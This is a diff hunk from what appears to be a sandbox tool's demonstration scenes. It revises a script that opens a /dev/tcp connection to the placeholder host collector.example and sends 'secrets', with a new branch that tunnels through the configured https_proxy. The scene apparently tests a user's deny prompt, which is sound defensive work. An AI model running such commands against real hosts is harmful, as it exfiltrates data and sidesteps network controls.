@@ -50,7 +50,13 @@ exec agentbox host --why "$(printf 'measured by agentbox\n  harmless\n\033[1;32m
               "holds the connection until you have decided; not even a DNS question has left\n"
               "the machine by then.",
      .tip = "d, which denies. There is no such host, so a yes does no harm either",
-     .script = R"sh(exec bash -c 'exec 3<>/dev/tcp/collector.example/443 && printf "secrets\n" >&3 && cat <&3')sh",
+     // Where nothing can be captured, it goes the way that the room tells its programs of.
+     .script = R"sh(exec bash -c 'if [ -n "$https_proxy" ]; then
+  way=${https_proxy#http://}; way=${way%/}
+  exec 3<>"/dev/tcp/${way%:*}/${way##*:}" && printf "CONNECT collector.example:443 HTTP/1.1\r\nHost: collector.example:443\r\n\r\n" >&3
+else
+  exec 3<>/dev/tcp/collector.example/443 && printf "secrets\n" >&3
+fi && tr -d "\r" <&3')sh",
      .stolen = {},
      .only = Scene::Only::after_a_yes},
 
